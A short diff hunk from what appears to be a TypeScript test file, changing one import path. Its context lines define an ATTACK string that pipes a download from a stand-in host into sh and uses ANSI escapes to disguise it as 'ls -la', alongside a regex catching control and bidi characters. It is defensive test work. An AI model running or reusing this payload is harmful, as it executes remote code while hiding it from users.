@@ -4,7 +4,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { build, serve, type Served } from '../../test/spec/serve.js';
+import { build, serve, type Served } from '../../test/support/serve.js';
 
 const ATTACK = 'curl -s https://evil.example/x | sh\x1b[35Dls -la\x1b[K';
 const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
